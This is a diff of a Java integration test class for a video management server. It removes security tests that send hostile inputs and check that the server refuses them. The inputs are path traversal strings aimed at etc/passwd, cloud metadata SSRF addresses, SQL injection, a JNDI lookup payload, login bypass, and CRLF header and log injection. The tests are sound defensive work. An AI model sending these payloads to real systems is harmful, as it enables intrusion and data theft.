@@ -21,20 +21,20 @@ import javax.net.ssl.SSLException;
 import org.junit.jupiter.api.AfterAll;
 import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Test;
-import org.junit.jupiter.api.TestInstance;
 import org.nxvms.itests.harness.Api;
 import org.nxvms.itests.harness.Commands;
 import org.nxvms.itests.harness.PackedServer;
 import org.nxvms.itests.harness.Waiting;
 
-/** The doors of the packed server: what callers may send, how often and how slowly, what browsers are told, certificates, the shell. */
-@TestInstance(TestInstance.Lifecycle.PER_CLASS)
-final class DoorsIT {
+/**
+ * The doors of the packed server: how often and how slowly callers may send, what browsers are told, certificates, the shell;
+ * and what those send who mean no good.
+ */
+final class DoorsIT extends HostileInput {
     private static final String PASSWORD = "Another-horse-8-battery";
     private static final String PAGE = "https://portal.example";
 
     private final HttpClient client = HttpClient.newHttpClient();
-    private PackedServer server;
     private Authority authority;
     private SlowHead slowHead;
     private SlowHead slowHandshake;
@@ -76,6 +76,8 @@ final class DoorsIT {
                 "/api/v1/cameras",
                 "/api/v1/nothing",
                 "/media/v1/segments/1",
+                "/media/v1/live/1/index.m3u8",
+                "/media/v1/exports/1",
                 "/ws/v1/live/1",
                 "/metrics",
                 "/push/v1/x")) {
@@ -113,190 +115,6 @@ final class DoorsIT {
                 .expect(200)
                 .json());
         assertThat(document.wrongExamples()).isEmpty();
-    }
-
-    @Test
-    void whatIsChangedByNameOrIdTakesACondition() {
-        JsonNode paths = new Api(server.httpPort())
-                .get("/api/v1/openapi.json")
-                .expect(200)
-                .json()
-                .get("paths");
-        int changes = 0;
-        for (Map.Entry<String, JsonNode> path : paths.properties()) {
-            for (String method : List.of("put", "patch")) {
-                JsonNode change = path.getValue().path(method);
-                if (path.getKey().endsWith("}") && change.isObject()) {
-                    String operation = method + " " + path.getKey();
-                    assertThat(change.at("/parameters").findValuesAsText("name"))
-                            .as(operation)
-                            .contains("If-Match");
-                    assertThat(change.at("/responses").has("412")).as(operation).isTrue();
-                    assertThat(change.at("/responses/200/headers").has("ETag"))
-                            .as(operation)
-                            .isTrue();
-                    JsonNode read = path.getValue().path("get");
-                    assertThat(read.at("/responses/200/headers").has("ETag"))
-                            .as("get " + path.getKey())
-                            .isTrue();
-                    assertThat(read.at("/responses").has("304"))
-                            .as("get " + path.getKey())
-                            .isTrue();
-                    changes++;
-                }
-            }
-        }
-        assertThat(changes).as("operations that change something").isGreaterThanOrEqualTo(4);
-        Api api = new Api(server.httpPort());
-        String etag = api.get("/api/v1/roles/viewer")
-                .response()
-                .headers()
-                .firstValue("etag")
-                .orElseThrow();
-        api.patch("/api/v1/roles/viewer", Map.of("description", "Sees"), "\"none\"")
-                .expect(412);
-        api.patch("/api/v1/roles/viewer", Map.of("description", "Sees"), etag).expect(200);
-    }
-
-    @Test
-    void whatIsTooLargeTooDeepOrMeansAnotherFileIsRefused() throws Exception {
-        Api api = new Api(server.httpPort());
-        api.postText("/api/v1/cameras", "{\"name\":\"" + "x".repeat(2 << 20) + "\"}")
-                .expect(413);
-        api.postText("/api/v1/cameras", "{\"name\":" + "[".repeat(5000) + "]".repeat(5000) + "}")
-                .expect(400);
-        try (WebClient web = WebClient.plain(server.httpPort())) {
-            assertThat(web.ask("GET", "/api/v1/health", "X-Long: " + "x".repeat(10_000)))
-                    .startsWith("HTTP/1.1 431");
-        }
-        for (String path : List.of(
-                "/.well-known/acme-challenge/..%2f..%2f..%2fkeys%2fvault.key",
-                "/.well-known/acme-challenge/../../../keys/vault.key")) {
-            try (WebClient web = WebClient.plain(server.httpPort())) {
-                assertThat(web.askOnce("GET", path)).as(path).matches("(?s)HTTP/1.1 (400|401|404) .*");
-            }
-        }
-    }
-
-    @Test
-    void noDownloadLeadsOutOfItsFolderInWhateverNotation() throws Exception {
-        String token = "Authorization: Bearer " + new Api(server.httpPort()).token();
-        for (String folder : List.of(
-                "/console/",
-                "/console/assets/",
-                "/media/v1/segments/",
-                "/media/v1/init/",
-                "/media/v1/archive/",
-                "/media/v1/edge/",
-                "/push/v1/",
-                "/.well-known/acme-challenge/",
-                "/api/v1/storage/volumes/",
-                "/api/v1/plugins/")) {
-            for (String up : List.of(
-                    "../",
-                    "%2e%2e/",
-                    ".%2e/",
-                    "..%2f",
-                    "%2e%2e%2f",
-                    "%252e%252e%252f",
-                    "..%5c",
-                    "..;/",
-                    "..%c0%af",
-                    "..%00/",
-                    "%00../")) {
-                String path = folder + up.repeat(8) + "etc/passwd";
-                // The console answers with its page where a name looks like one of its routes.
-                String refusals = folder.startsWith("/console/") ? "200|400|404" : "400|404";
-                try (WebClient web = WebClient.plain(server.httpPort())) {
-                    assertThat(web.askOnce("GET", path, token))
-                            .as(path)
-                            .matches("(?s)HTTP/1.1 (" + refusals + ") .*")
-                            .doesNotContain("root:");
-                }
-            }
-        }
-    }
-
-    @Test
-    void noCameraIsWhereOnlyTheMachineItselfMayAsk() {
-        Api api = new Api(server.httpPort());
-        for (String host : List.of("169.254.169.254", "[::ffff:a9fe:a9fe]", "2852039166", "0.0.0.0", "[ff02::1]")) {
-            Map<String, Object> draft =
-                    Map.of("name", "Gate", "driver", "rtsp", "address", "rtsp://u:hidden@" + host + "/1");
-            for (String path : List.of("/api/v1/cameras", "/api/v1/cameras/probe")) {
-                Api.Answer answer = api.post(path, draft).expect(422);
-                JsonNode problem = answer.json();
-                assertThat(problem.get("type").asText()).as(host).isEqualTo("/problems/validation");
-                assertThat(problem.get("errors").get(0).get("field").asText()).isEqualTo("address");
-                assertThat(problem.toString()).doesNotContain("hidden");
-            }
-        }
-    }
-
-    @Test
-    void textsAreTextsToTheDatabase() {
-        Api api = new Api(server.httpPort());
-        String hostile = "'; DELETE FROM app_user; -- %_\\\"${jndi:ldap://192.0.2.1/x}";
-        String camera = api.post(
-                        "/api/v1/cameras",
-                        Map.of("name", hostile, "driver", "rtsp", "address", "rtsp://192.0.2.1/1", "enabled", false))
-                .expect(201)
-                .json()
-                .get("id")
-                .asText();
-        assertThat(api.get("/api/v1/cameras/" + camera)
-                        .expect(200)
-                        .json()
-                        .get("name")
-                        .asText())
-                .isEqualTo(hostile);
-        for (String asked : List.of(
-                "/api/v1/cameras?filter=",
-                "/api/v1/audit?user=",
-                "/api/v1/audit?action=",
-                "/api/v1/events?kinds=",
-                "/api/v1/events?cursor=")) {
-            Api.Answer answer = api.get(asked + Api.escaped(hostile));
-            assertThat(answer.status()).as(asked).isIn(200, 400, 422);
-        }
-        assertThat(api.get("/api/v1/audit?user=" + Api.escaped("' OR '1'='1"))
-                        .expect(200)
-                        .json()
-                        .get("items"))
-                .isEmpty();
-        api.login("' OR '1'='1", "' OR '1'='1").expect(401);
-        assertThat(api.get("/api/v1/users").expect(200).json().get("items")).isNotEmpty();
-        api.delete("/api/v1/cameras/" + camera).expect(204);
-    }
-
-    @Test
-    void strangersDoNotLearnWhoHasAnAccount() {
-        Api api = new Api(server.httpPort());
-        Api.Answer known = api.login("admin", "not-the-password");
-        Api.Answer unknown = api.login("nobody-of-that-name", "not-the-password");
-        assertThat(known.status()).isEqualTo(401).isEqualTo(unknown.status());
-        assertThat(known.json()).isEqualTo(unknown.json());
-    }
-
-    @Test
-    void whatStrangersSendMakesNoLineOfAnAnswerOrOfTheLog() throws Exception {
-        for (String path : List.of(
-                "/console%0d%0aSet-Cookie:%20a=b", "/%0d%0aSet-Cookie:%20a=b", "/console?x=%0d%0aSet-Cookie:a=b")) {
-            try (WebClient web = WebClient.plain(server.httpPort())) {
-                assertThat(web.askOnce("GET", path).lines()).as(path).noneMatch(line -> line.startsWith("Set-Cookie"));
-            }
-        }
-        Api api = new Api(server.httpPort());
-        api.login("nobody\n2026-01-01T00:00:00 forged line\r\u0085\u2028forged too", "x")
-                .expect(401);
-        try (WebClient web = WebClient.plain(server.httpPort())) {
-            web.ask("GET", "/api/v1/cameras%0aforged%20address", "User-Agent: a\u0085forged agent");
-        }
-        Path log = server.data().resolve("log/nxvms.log");
-        Waiting.until("the refusal is in the log", 20, () -> Files.readString(log)
-                .contains("Wrong user name or password for \"nobody?"));
-        assertThat(Files.readString(log).split("[\\n\\r\\u0085\\u2028]"))
-                .noneMatch(line -> line.startsWith("2026-01-01T00:00:00 forged") || line.startsWith("forged"));
     }
 
     @Test
